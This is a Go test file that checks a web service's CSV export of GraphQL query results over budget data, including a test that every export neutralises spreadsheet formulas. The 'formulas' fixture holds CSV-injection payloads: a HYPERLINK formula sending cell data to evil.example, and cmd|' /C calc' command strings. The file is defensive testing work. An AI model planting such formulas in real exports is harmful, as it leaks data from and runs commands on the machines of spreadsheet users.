package web_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"mime"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"
	"github.com/jixiao/jixiao/loader"
	"github.com/jixiao/jixiao/warehouse"
	"github.com/jixiao/jixiao/web"
)

// getCSV downloads /export.csv and returns the status, headers and the records after the
// byte-order mark (nil when there is none).
func getCSV(t *testing.T, req *http.Request) (*http.Response, [][]string, string) {
	t.Helper()
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		return resp, nil, string(body)
	}
	rest, ok := bytes.CutPrefix(body, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("no UTF-8 byte-order mark: %q", body[:min(len(body), 20)])
	}
	if !bytes.Contains(rest, []byte("\r\n")) {
		t.Errorf("lines do not end with CRLF: %q", rest)
	}
	records, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return resp, records, string(body)
}

func TestExportCSV(t *testing.T) {
	srv, store := newAnalyticsServer(t)
	const q = `query($y: Int!) { projectGroups(filter: {year: {eq: $y}}, groupBy: [UNIT], measures: [BUDGET_TOTAL_SUM],
		orderBy: [{measure: BUDGET_TOTAL_SUM, direction: DESC}]) { groupCount table { columns { name } rows } } }`
	want := [][]string{
		{"label", "unit_code", "unit_name", "budget_total_sum"},
		{"天津市公安交通管理局警务保障处", "374101", "天津市公安交通管理局警务保障处", "3070.21"},
		{"天津市公安交通管理局秩序处", "374102", "天津市公安交通管理局秩序处", "165"},
	}

	// GET with the query in the URL, as the explorer's links do.
	link := srv.URL + "/export.csv?" + url.Values{"query": {q}, "variables": {`{"y": 2024}`}}.Encode()
	req, _ := http.NewRequest(http.MethodGet, link, nil)
	before := store.QueryCount()
	resp, got, body := getCSV(t, req)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET: %s %s", resp.Status, body)
	}
	if n := store.QueryCount() - before; n != 1 {
		t.Errorf("the download ran %d SQL statements, want 1 (the grouped query)", n)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("GET CSV (-want +got):\n%s", diff)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type = %q", ct)
	}
	if _, params, err := mime.ParseMediaType(resp.Header.Get("Content-Disposition")); err != nil || params["filename"] != "jixiao-projectGroups.csv" {
		t.Errorf("Content-Disposition = %q (%v)", resp.Header.Get("Content-Disposition"), err)
	}

	// POST a GraphQL JSON body, with a Chinese file name.
	b, _ := json.Marshal(map[string]any{"query": q, "variables": map[string]any{"y": 2024}})
	req, _ = http.NewRequest(http.MethodPost, srv.URL+"/export.csv?filename=预算", bytes.NewReader(b))
	req.Header.Set("Content-Type", "application/json")
	resp, got, body = getCSV(t, req)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST: %s %s", resp.Status, body)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("POST CSV (-want +got):\n%s", diff)
	}
	if _, params, _ := mime.ParseMediaType(resp.Header.Get("Content-Disposition")); params["filename"] != "jixiao-预算.csv" {
		t.Errorf("Content-Disposition = %q", resp.Header.Get("Content-Disposition"))
	}

	// A trend's nulls become empty cells.
	link = srv.URL + "/export.csv?" + url.Values{"query": {`{ projectTrends(filter: {unit: {eq: "374102"}}, groupBy: [UNIT], measures: [BUDGET_TOTAL_SUM]) { table { columns { name } rows } } }`}}.Encode()
	req, _ = http.NewRequest(http.MethodGet, link, nil)
	if _, got, body = getCSV(t, req); len(got) != 3 || got[1][5] != "" || got[2][7] != "32" {
		t.Errorf("trend CSV = %q (%s)", got, body)
	}
}

// TestGraphQLAnswersCSV: /graphql under Accept: text/csv answers the same CSV as
// /export.csv, from one execution of the operation.
func TestGraphQLAnswersCSV(t *testing.T) {
	srv, store := newAnalyticsServer(t)
	const q = `{ projectGroups(filter: {year: {eq: 2024}}, groupBy: [UNIT], measures: [BUDGET_TOTAL_SUM]) { table { columns { name } rows } } }`
	req, _ := http.NewRequest(http.MethodGet, srv.URL+"/export.csv?"+url.Values{"query": {q}}.Encode(), nil)
	_, want, body := getCSV(t, req)
	if want == nil {
		t.Fatalf("/export.csv: %s", body)
	}
	b, _ := json.Marshal(map[string]any{"query": q})
	req, _ = http.NewRequest(http.MethodPost, srv.URL+"/graphql", bytes.NewReader(b))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "text/csv")
	before := store.QueryCount()
	resp, got, body := getCSV(t, req)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/graphql under Accept: text/csv: %s %s", resp.Status, body)
	}
	if n := store.QueryCount() - before; n > 1 {
		t.Errorf("the CSV answer ran %d SQL statements, want at most 1", n)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("/graphql CSV (-/export.csv +/graphql):\n%s", diff)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type = %q", ct)
	}
	// Errors come as text, with the status of a refusal.
	b, _ = json.Marshal(map[string]any{"query": "{ nothing }"})
	req, _ = http.NewRequest(http.MethodPost, srv.URL+"/graphql", bytes.NewReader(b))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "text/csv")
	if resp, _, body := getCSV(t, req); resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "the query failed: ") {
		t.Errorf("an invalid query under Accept: text/csv: %s %q", resp.Status, body)
	}
}

func TestExportCSVRefuses(t *testing.T) {
	srv, _ := newAnalyticsServer(t)
	tests := []struct{ name, query, variables, want string }{
		{"no query", "", "", "give a GraphQL query"},
		{"no table", `{ summary { projects } }`, "", "the answer has no table"},
		{"two tables", `{ a: projectGroups { table { columns { name } rows } } b: projectGroups(groupBy: [YEAR]) { table { columns { name } rows } } }`, "", "2 tables (a, b)"},
		{"no column names", `{ projectGroups { table { rows } } }`, "", "needs both `columns { name }` and `rows`"},
		{"bad variables", `query($y: Int) { projectGroups(filter: {year: {eq: $y}}) { table { columns { name } rows } } }`, "{", "variables must be a JSON object"},
		{"invalid query", `{ projectGroups(groupBy: [NAME]) { table { rows } } }`, "", "the query failed: "},
		{"refused by the warehouse", `{ indicatorGroups(groupBy: [UNIT], measures: [VALUE_MEDIAN]) { table { columns { name } rows } } }`, "", "add NORMALIZED_UNIT to groupBy"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := url.Values{}
			if tt.query != "" {
				v.Set("query", tt.query)
			}
			if tt.variables != "" {
				v.Set("variables", tt.variables)
			}
			req, _ := http.NewRequest(http.MethodGet, srv.URL+"/export.csv?"+v.Encode(), nil)
			resp, _, body := getCSV(t, req)
			if resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, tt.want) {
				t.Errorf("got %s %q, want 400 containing %q", resp.Status, body, tt.want)
			}
		})
	}
}

// TestPages serves the pages from a stand-in file system: routes, content types, no folder
// listings, and a policy that keeps the pages on their own host.
func TestPages(t *testing.T) {
	_, store := newTestServer(t)
	pages := fstest.MapFS{
		"index.html":   {Data: []byte("<title>IDE</title>")},
		"explore.html": {Data: []byte("<title>explorer</title>")},
		"explore.js":   {Data: []byte("// js")},
	}
	srv := httptest.NewServer(web.NewHandler(store, slog.New(slog.NewTextHandler(io.Discard, nil)), web.Options{Pages: pages}))
	defer srv.Close()
	for _, tt := range []struct {
		path   string
		status int
		body   string
		ctype  string
	}{
		{"/", 200, "<title>IDE</title>", "text/html; charset=utf-8"},
		{"/explore", 200, "<title>explorer</title>", "text/html; charset=utf-8"},
		{"/assets/explore.js", 200, "// js", "text/javascript; charset=utf-8"},
		{"/assets/echarts.min.js", 404, "", ""},
		{"/assets/", 404, "", ""},
		{"/nothing", 404, "", ""},
	} {
		resp, err := http.Get(srv.URL + tt.path)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != tt.status || (tt.body != "" && string(body) != tt.body) {
			t.Errorf("GET %s = %d %q, want %d %q", tt.path, resp.StatusCode, body, tt.status, tt.body)
		}
		if tt.ctype != "" && resp.Header.Get("Content-Type") != tt.ctype {
			t.Errorf("GET %s: Content-Type %q, want %q", tt.path, resp.Header.Get("Content-Type"), tt.ctype)
		}
		if strings.HasSuffix(tt.path, "/") || tt.path == "/explore" {
			if csp := resp.Header.Get("Content-Security-Policy"); tt.status == 200 && !strings.Contains(csp, "default-src 'self'") {
				t.Errorf("GET %s: Content-Security-Policy %q", tt.path, csp)
			}
		}
	}
}

// formulas are cells that a spreadsheet would run (CSV injection), as a document may hold them.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"点击")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// runsAsFormula says whether a spreadsheet would run a cell: it starts with =, @, a tab or
// a carriage return, or with + or - and is not a number.
func runsAsFormula(cell string) bool {
	if cell == "" {
		return false
	}
	switch cell[0] {
	case '=', '@', '\t', '\r':
		return true
	case '+', '-':
		_, err := strconv.ParseFloat(cell, 64)
		return err != nil
	}
	return false
}

// TestEveryCSVExportNeutralizesFormulas loads a document whose project names, indicator names
// and values are formulas, and exports it both ways: /export.csv and Store.Export (what
// `jixiao export --format csv` runs). Before one writer served both, the bulk export wrote the
// formulas unchanged. No cell of either may run as a formula, and each formula must be there
// behind a quote.
func TestEveryCSVExportNeutralizesFormulas(t *testing.T) {
	doc, err := loader.ParseFile(referencePath, loader.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i, f := range formulas {
		doc.Projects[i].Name = f
		doc.Projects[i].Indicators[0].Level3 = f
		doc.Projects[i].Indicators[0].Value.Raw = f
	}
	srv, store := serveDocuments(t, web.Options{}, slog.New(slog.DiscardHandler), doc)

	check := func(where string, records [][]string) {
		t.Helper()
		seen := map[string]bool{}
		for r, rec := range records {
			for c, cell := range rec {
				if runsAsFormula(cell) {
					t.Errorf("%s, row %d, column %d: %q runs as a formula", where, r+1, c+1, cell)
				}
				seen[cell] = true
			}
		}
		for _, f := range formulas {
			// encoding/csv drops a lone CR inside a cell when lines end with CRLF.
			if !seen["'"+f] && !seen["'"+strings.ReplaceAll(f, "\r", "")] {
				t.Errorf("%s: no cell %q (the formula behind a quote)", where, "'"+f)
			}
		}
	}

	link := srv.URL + "/export.csv?" + url.Values{"query": {`{ projectGroups(groupBy: [PROJECT], measures: [COUNT]) { table { columns { name } rows } } }`}}.Encode()
	req, _ := http.NewRequest(http.MethodGet, link, nil)
	resp, records, body := getCSV(t, req)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/export.csv: %s %s", resp.Status, body)
	}
	check("/export.csv", records)

	dir := t.TempDir()
	if _, err := store.Export(t.Context(), dir, warehouse.CSV); err != nil {
		t.Fatal(err)
	}
	for _, table := range []string{"projects", "indicators"} {
		raw, err := os.ReadFile(filepath.Join(dir, table+".csv"))
		if err != nil {
			t.Fatal(err)
		}
		rest, ok := bytes.CutPrefix(raw, []byte("\xEF\xBB\xBF"))
		if !ok {
			t.Errorf("%s.csv: no UTF-8 byte-order mark", table)
		}
		records, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		check("jixiao export "+table+".csv", records)
	}
}
